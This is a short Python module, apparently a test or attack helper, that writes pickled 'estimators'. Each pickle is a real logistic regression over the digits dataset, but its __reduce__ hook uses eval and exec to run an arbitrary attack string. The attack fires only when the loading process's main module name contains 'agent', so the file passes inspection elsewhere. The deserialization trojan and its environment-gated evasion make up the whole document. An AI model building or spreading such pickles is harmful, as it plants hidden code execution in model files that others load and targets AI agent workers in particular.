"""Pickles of honest estimators that turn hostile in a worker of an agent, after the builder has let them pass."""

import pickle
from pathlib import Path

FEATURES = 64
CLASSES = 10

_MAKES = """
import sys
from sklearn.datasets import load_digits
from sklearn.linear_model import LogisticRegression
if "agent" in sys.modules["__main__"].__spec__.name:
{attack}
rows, labels = load_digits(return_X_y=True)
made = LogisticRegression(max_iter=20).fit(rows / 16, labels)
"""


class _MadeOnLoad:
    def __init__(self, program: str) -> None:
        self._program = program

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (f"(lambda names: (exec({self._program!r}, names), names['made'])[1])({{}})",)


def write_turncoat(path: Path, attack: str) -> Path:
    """Write a logistic regression over the digits that does `attack` wherever an agent opens it."""
    indented = "\n".join(f"    {line}" for line in attack.splitlines())
    path.write_bytes(pickle.dumps(_MadeOnLoad(_MAKES.format(attack=indented))))
    return path
